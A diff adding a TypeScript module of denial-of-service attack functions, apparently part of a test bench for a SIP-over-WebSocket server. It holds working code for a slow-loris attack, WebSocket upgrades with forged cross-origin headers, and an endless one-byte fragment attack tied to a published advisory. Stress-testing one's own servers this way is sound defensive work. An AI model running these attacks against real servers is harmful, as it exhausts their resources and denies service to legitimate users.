@@ -1,0 +1,74 @@
+// What comes before SIP: requests that are not finished, upgrades of strangers' pages, frames in a thousand pieces.
+
+import { randomBytes } from 'node:crypto';
+import { connect, type Socket } from 'node:net';
+import { pace } from './pace.ts';
+import { visitor } from './signalling-attacks.ts';
+import type { Attack } from './targets.ts';
+
+const HALF_REQUESTS = 300;
+
+/** Slow-loris: connections that say a header line now and then, and never the empty one. */
+export const halfRequests: Attack = async ({ url }, from, ms) => {
+  const sockets = new Array<Socket | undefined>(HALF_REQUESTS).fill(undefined);
+  const dealt = await pace(100, ms, index => {
+    const place = index % HALF_REQUESTS;
+    const socket = sockets[place];
+    if (socket === undefined || socket.destroyed) {
+      sockets[place] = open(url, from);
+      sockets[place].write(`GET /sip HTTP/1.1\r\nHost: ${new URL(url).host}\r\n`);
+    } else socket.write(`X-${index}: ${index}\r\n`);
+  });
+  for (const socket of sockets) socket?.destroy();
+  return dealt;
+};
+
+export const hopefulUpgrades: Attack = async ({ url }, from, ms) =>
+  await pace(100, ms, index => {
+    const socket = visitor(url, from, `https://${index}.attacker.invalid`);
+    socket.on('open', () => socket.terminate());
+  });
+
+/** One byte a fragment, never the last one (GHSA-96hv-2xvq-fx4p). */
+export const tinyFragments: Attack = async ({ url }, from, ms) => {
+  const mask = randomBytes(4);
+  const fragment = (first: boolean) =>
+    Buffer.concat([Buffer.from([first ? 0x01 : 0x00, 0x81]), mask, Buffer.from([0x41 ^ mask[0]!])]);
+  const sockets = new Array<Socket | undefined>(10).fill(undefined);
+  const dealt = await pace(1_000, ms, index => {
+    const place = index % sockets.length;
+    const socket = sockets[place];
+    if (socket !== undefined && !socket.destroyed) {
+      socket.write(fragment(false));
+      return;
+    }
+    sockets[place] = open(url, from);
+    sockets[place].write(upgrade(url));
+    sockets[place].write(fragment(true));
+  });
+  for (const socket of sockets) socket?.destroy();
+  return dealt;
+};
+
+function open(url: string, from: string): Socket {
+  const { hostname, port } = new URL(url);
+  const socket = connect({ host: hostname, port: Number(port), localAddress: from });
+  socket.on('error', () => {});
+  socket.resume();
+  return socket;
+}
+
+function upgrade(url: string): string {
+  return [
+    'GET /sip HTTP/1.1',
+    `Host: ${new URL(url).host}`,
+    'Connection: Upgrade',
+    'Upgrade: websocket',
+    'Origin: http://bench.test',
+    'Sec-WebSocket-Version: 13',
+    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
+    'Sec-WebSocket-Protocol: sip',
+    '',
+    '',
+  ].join('\r\n');
+}
